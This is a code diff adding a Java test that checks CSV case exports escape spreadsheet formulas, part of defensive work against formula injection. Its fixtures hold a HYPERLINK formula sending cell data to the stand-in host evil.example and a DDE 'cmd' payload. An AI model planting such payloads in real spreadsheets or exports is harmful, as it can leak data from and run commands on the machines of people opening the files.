@@ -112,6 +112,25 @@ class CaseExportsTest {
     }
 
     @Test
+    void aNameOrReasonThatLooksLikeAFormulaStaysTextInExcel() throws Exception {
+        Applicant formula = applicant("13912340004");
+        formula.name = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击查看\")";
+        cases.submittedAndReviewOpen(formula);
+        cases.returnMaterials(
+                formula, Map.of(checklists.requiredCodes(formula.candidateNo).get(0), "@SUM(1+1)*cmd|' /C calc'!A0"));
+
+        String row = row(lines(csv("/api/admin/cases.csv", TestUsers.ADMIN, "", 200)), formula);
+        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
+        String returnedRow = row(lines(csv("/api/admin/returned.csv", TestUsers.ADMIN, "", 200)), formula);
+        assertThat(returnedRow).contains(",\"'=HYPERLINK(");
+        assertThat(CaseExports.inert("-2+3")).isEqualTo("'-2+3");
+        assertThat(CaseExports.inert("+86 139")).isEqualTo("'+86 139");
+        assertThat(CaseExports.inert("\t=1")).isEqualTo("'\t=1");
+        assertThat(CaseExports.inert("测试考生")).isEqualTo("测试考生");
+        assertThat(CaseExports.inert(3)).isEqualTo(3);
+    }
+
+    @Test
     void aSiteReviewerExportsTheirSiteOnly() throws Exception {
         csv("/api/admin/cases.csv", TestUsers.SITE_REVIEWER, "", 404);
         csv("/api/admin/cases.csv", TestUsers.OTHER_REGION_REVIEWER, "", 404);
